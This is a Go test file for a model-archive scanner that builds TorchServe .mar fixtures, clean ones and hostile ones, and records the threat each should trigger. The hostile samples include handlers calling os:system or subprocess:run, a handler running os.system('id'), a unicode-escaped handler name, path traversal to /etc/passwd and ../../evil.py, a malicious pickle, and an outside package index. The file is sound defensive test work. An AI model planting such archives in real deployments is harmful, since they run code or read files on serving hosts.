package scantest

import (
	"fmt"

	"modelgate/internal/threat"
)

// marManifest is a manifest with a handler and further keys of the model.
func marManifest(handler, more string) []byte {
	return fmt.Appendf(nil, `{"createdOn": "01/01/2026 00:00:00", "runtime": "python", "model": {"modelName": "m", "handler": %q%s, "modelVersion": "1.0"}, "archiverVersion": "0.12.0"}`, handler, more)
}

// marArchive is an archive around a manifest.
func marArchive(manifest []byte, members ...ZIPEntry) []byte {
	return BuildZIP(append(members, ZIPEntry{Name: "MAR-INF/MANIFEST.json", Content: manifest})...)
}

// torchserveCases are archives whose manifests or members make the server run something.
func torchserveCases() []Case {
	one := func(name string, id threat.ID, level threat.Level, content []byte) Case {
		return Case{Name: name, Path: "model.mar", Bytes: content, Want: id, Level: level, Twin: id == ""}
	}
	file := func(name, content string) ZIPEntry { return ZIPEntry{Name: name, Content: []byte(content)} }
	honest := file("handler.py", "class Handler:\n    def handle(self, data, context):\n        return [1 for _ in data]\n")
	evil := file("handler.py", "import os\nos.system('id')\n")
	return []Case{
		one("twin: torchserve: a built-in handler", "", threat.Clean, marArchive(marManifest("image_classifier", ""))),
		one("twin: torchserve: a handler of its own", "", threat.Clean, marArchive(marManifest("handler.py:Handler", ""), honest)),
		one("torchserve: a handler that runs a program when it is imported", threat.MGPY100, threat.Malicious, marArchive(marManifest("handler.py:Handler", ""), evil)),
		one("torchserve: a handler that is a function of the system", threat.MGPY100, threat.Malicious, marArchive(marManifest("os:system", ""))),
		one("torchserve: a handler that nobody knows", threat.MGPY101, threat.Suspicious, marArchive(marManifest("company_handlers", ""))),
		one("torchserve: a handler that is not there", threat.MGFMT400, threat.Suspicious, marArchive(marManifest("handler.py", ""))),
		one("torchserve: a handler outside the archive", threat.MGPATH100, threat.Malicious, marArchive(marManifest("../../evil.py", ""))),
		one("torchserve: weights outside the archive", threat.MGPATH100, threat.Malicious, marArchive(marManifest("image_classifier", `, "serializedFile": "/etc/passwd"`))),
		one("torchserve: two handlers", threat.MGFMT403, threat.Suspicious, marArchive(marManifest("image_classifier", `, "handler": "text_classifier"`))),
		one("torchserve: a handler that is hidden by escapes", threat.MGPY100, threat.Malicious,
			marArchive([]byte(`{"model": {"handler": "\u006fs:system"}}`))),
		one("torchserve: a dangerous pickle as weights", threat.PYTCH100, threat.Malicious,
			marArchive(marManifest("image_classifier", `, "serializedFile": "w.pt"`), ZIPEntry{Name: "w.pt", Content: pk4(pkSystem())})),
		one("torchserve: requirements of another index", threat.MGPY101, threat.Suspicious,
			marArchive(marManifest("image_classifier", `, "requirementsFile": "requirements.txt"`), file("requirements.txt", "--extra-index-url http://192.0.2.1/simple\nevil\n"))),
		one("twin: torchserve: requirements", "", threat.Clean,
			marArchive(marManifest("image_classifier", `, "requirementsFile": "requirements.txt"`), file("requirements.txt", "numpy>=1.26\npillow\n"))),
		one("torchserve: CVE-2023-48299: a member that leaves the archive", threat.ARV100, threat.Malicious, marArchive(marManifest("image_classifier", ""), file("../../evil.txt", "x"))),
		{
			Name: "torchserve: an archive as a directory in a tar, with a handler of the system", Path: "model.tar", Want: threat.MGPY100, Level: threat.Malicious,
			Bytes: BuildTar(TarEntry{Name: "m/weights.bin", Content: []byte("abc")}, TarEntry{Name: "m/MAR-INF/MANIFEST.json", Content: marManifest("subprocess:run", "")}),
		},
	}
}
